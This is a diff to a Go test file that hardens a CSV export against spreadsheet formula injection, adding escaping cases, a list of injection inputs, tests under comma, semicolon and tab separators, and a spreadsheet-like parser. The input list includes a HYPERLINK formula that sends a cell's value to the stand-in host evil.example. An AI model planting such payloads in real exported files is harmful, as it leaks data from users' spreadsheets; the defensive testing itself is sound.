@@ -10,6 +10,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 )
 
 // taker is who an export is written for. It counts what the export does, and goes away after so many chunks.
@@ -92,14 +93,72 @@ func TestCellsAreNoFormulas(t *testing.T) {
 		"+1":          "'+1",
 		"-1":          "'-1",
 		"@SUM(A1)":    "'@SUM(A1)",
-		"\t=1":        "'\t=1",
-		"\r=1":        "'\r=1",
+		"\thi":        "'\thi",
+		"\t=1":        "'\t'=1",
+		"\r=1":        "'\r'=1",
+		"\n=1":        "'\n'=1",
+		" =1":         "' =1",
+		"hi; =1;2":    "hi;' =1;2",
+		"a;;b\t;=":    "a;;b\t;'=",
 		"ä, \"b\"\nc": "ä, \"b\"\nc",
 	} {
 		if got := cell(text); got != want {
 			t.Errorf("%q is written %q, want %q", text, got, want)
 		}
 	}
+}
+
+// formulas are texts that spreadsheets have taken for formulas, or parts of them.
+var formulas = []string{
+	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", " =1", "\u00a0=1", `"=1"`,
+	"hi;=1", `hi;=HYPERLINK("http://evil.example/?"&A1;"click")`, "hi; =1", "hi;;=1", `hi;"=1+1"`, `hi";"=1+1"`, "hi\t=1", "hi\t \"@SUM(A1)\"",
+	"hi\n=1", "hi\r+1", "hi\n;\t -1", "＝1+1", "hi;＠SUM(A1)", ";;;@x;-1\t+1\n=1",
+}
+
+// TestCells_EverySeparator reads the file as spreadsheets do that expect another separator: in most of Europe that is a semicolon.
+func TestCells_EverySeparator(t *testing.T) {
+	d := dash(t)
+	for _, text := range formulas {
+		r := &taker{ResponseRecorder: *httptest.NewRecorder(), patience: 100}
+		rows := [][]string{{cell(text), "7", cell(text), cell(text)}}
+		page := func() (next [][]string, err error) { next, rows = rows, nil; return next, nil }
+		if err := d.server.exportCSV(r, httptest.NewRequest("GET", "/api/v1/journal", nil), "things", []string{"a", "b", "c", "d"}, page); err != nil {
+			t.Fatal(err)
+		}
+		for _, separator := range []rune{',', ';', '\t'} {
+			for _, c := range spreadsheet(r.Body.String(), separator) {
+				if c = strings.TrimLeftFunc(c, unicode.IsSpace); c != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(c)[0]) {
+					t.Errorf("%q, separated by %q, gives the formula %q", text, separator, c)
+				}
+			}
+		}
+	}
+}
+
+// spreadsheet returns the cells of a file as spreadsheets read it, which refuse nothing: quotes count at the beginning of a cell, and what
+// follows them belongs to it.
+func spreadsheet(file string, separator rune) (cells []string) {
+	var c strings.Builder
+	begun, quoted := false, false
+	text := []rune(file)
+	for i := 0; i < len(text); i++ {
+		switch r := text[i]; {
+		case quoted && r == '"' && i+1 < len(text) && text[i+1] == '"':
+			c.WriteRune(r)
+			i++
+		case quoted && r == '"':
+			quoted = false
+		case !begun && r == '"':
+			begun, quoted = true, true
+		case !quoted && (r == separator || r == '\n' || r == '\r'):
+			cells, begun = append(cells, c.String()), false
+			c.Reset()
+		default:
+			begun = true
+			c.WriteRune(r)
+		}
+	}
+	return append(cells, c.String())
 }
 
 // table reads an exported file.
